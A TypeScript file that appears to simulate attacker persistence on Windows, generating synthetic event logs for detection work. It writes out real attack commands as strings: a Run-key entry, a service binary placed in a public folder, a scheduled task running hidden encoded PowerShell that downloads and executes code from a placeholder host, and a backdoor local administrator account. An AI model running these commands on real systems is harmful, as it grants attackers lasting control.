/** Attack scenes that stay: run key, service, scheduled task, local administrator. */
import { serviceInstalled, serviceState, taskCreated } from '../audit.ts';
import { encodeCommand } from '../background/system.ts';
import { userOf } from '../host.ts';
import { images, makeImage } from '../images.ts';
import { schemas } from '../schemas.ts';
import { anyWorkstation, auditedWorkstation, elevated, part, victim, type Scene } from './types.ts';

export const runKey: Scene = {
  id: 'run-key',
  title: 'Run key that starts a script from the user profile',
  technique: 'T1547.001',
  tactic: 'persistence',
  host: anyWorkstation,
  play(stage) {
    const desktop = victim(stage);
    const { sid } = desktop.explorer.logon.account;
    const script = `${desktop.home}\\AppData\\Roaming\\Adobe\\sync.vbs`;
    const details = `wscript.exe //B "${script}"`;
    part(stage, 'set run key');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', {
      parent: desktop.explorer,
    });
    stage.fileCreate(shell, script);
    const tool = stage.start(
      images.reg,
      `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v AdobeSync /t REG_SZ /d "${details.replaceAll('"', '\\"')}" /f`,
      { parent: shell, lives: 1e6 },
    );
    stage.registrySet(
      tool,
      `HKU\\${sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\AdobeSync`,
      details,
    );
    stage.wait(3, 8);
    stage.exit(shell);
    return desktop.user;
  },
};

export const newService: Scene = {
  id: 'new-service',
  title: 'Service whose program lies in a folder that users can write to',
  technique: 'T1543.003',
  tactic: 'persistence',
  host: auditedWorkstation,
  play(stage) {
    const { host } = stage;
    const desktop = victim(stage);
    const path = 'C:\\Users\\Public\\Libraries\\hlpsvc.exe';
    part(stage, 'install');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', elevated(desktop));
    stage.fileCreate(shell, path);
    stage.start(images.sc, `sc  create HelpUpdateSvc binPath= "${path}" start= auto`, {
      parent: shell,
      lives: 1e6,
    });
    stage.registrySet(
      host.base.services,
      'HKLM\\System\\CurrentControlSet\\Services\\HelpUpdateSvc\\ImagePath',
      path,
    );
    serviceInstalled(stage, shell.logon, 'HelpUpdateSvc', path, 'auto start');
    stage.wait(2, 5);
    part(stage, 'start');
    stage.start(images.sc, 'sc  start HelpUpdateSvc', { parent: shell, lives: 1e6 });
    stage.start(makeImage(path), path, { parent: host.base.services });
    serviceState(stage, 'HelpUpdateSvc', 'running');
    stage.wait(2, 5);
    stage.exit(shell);
    return desktop.user;
  },
};

export const encodedTask: Scene = {
  id: 'task-encoded-powershell',
  title: 'Scheduled task that runs an encoded PowerShell command at logon',
  technique: 'T1053.005',
  tactic: 'persistence',
  host: auditedWorkstation,
  play(stage) {
    const { host } = stage;
    const desktop = victim(stage);
    const encoded = encodeCommand(
      "IEX (New-Object Net.WebClient).DownloadString('https://cdn.freight-portal.example/u/91bd')",
    );
    const action = `-nop -w hidden -enc ${encoded}`;
    const name = '\\OneDrive Reporting Task v2';
    part(stage, 'register');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', elevated(desktop));
    stage.start(
      images.schtasks,
      `schtasks  /create /tn "${name.slice(1)}" /sc onlogon /rl highest /tr "powershell.exe ${action}" /f`,
      { parent: shell, lives: 1e6 },
    );
    taskCreated(stage, shell.logon, name, 'powershell.exe', action);
    stage.fileCreate(host.base.svchostSchedule, `C:\\Windows\\System32\\Tasks${name}`);
    stage.wait(20, 40);
    part(stage, 'run');
    stage.startConsole(images.powershell, `powershell.exe ${action}`, {
      parent: host.base.svchostSchedule,
      lives: 12e6,
    });
    stage.exit(shell);
    return desktop.user;
  },
};

export const localAdministrator: Scene = {
  id: 'local-admin-account',
  title: 'Local account made and put into Administrators',
  technique: 'T1136.001',
  tactic: 'persistence',
  host: auditedWorkstation,
  play(stage) {
    const { host, world } = stage;
    const desktop = victim(stage);
    const name = 'support_388';
    part(stage, 'create');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', elevated(desktop));
    const net = (args: string) => {
      const run = stage.start(images.net, `net  ${args}`, { parent: shell, lives: 2e6 });
      stage.start(images.net1, `C:\\Windows\\system32\\net1  ${args}`, { parent: run, lives: 1e6 });
    };
    const subject = stage.subject(shell.logon);
    const sid = `S-1-5-21-${world.random.u32()}-${world.random.u32()}-${world.random.u32()}-1003`;
    net(`user ${name} Vr8!kloster /add`);
    const unset = '%%1793';
    stage.emit(schemas.userCreated, [
      name, host.name, sid, ...subject, '-', name, unset, '-', unset, unset, unset, unset, unset, '%%1794', '%%1794',
      '513', '-', 0, 0x15, '\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084', unset, '-', '%%1797',
    ], host.base.lsass.pid, null); // prettier-ignore
    stage.wait(1, 4);
    part(stage, 'promote');
    net(`localgroup administrators ${name} /add`);
    stage.emit(
      schemas.groupMemberAdded,
      ['-', sid, 'Administrators', 'Builtin', 'S-1-5-32-544', ...subject, '-'],
      host.base.lsass.pid,
      null,
    );
    stage.wait(2, 5);
    stage.exit(shell);
    return userOf(shell.logon.account);
  },
};
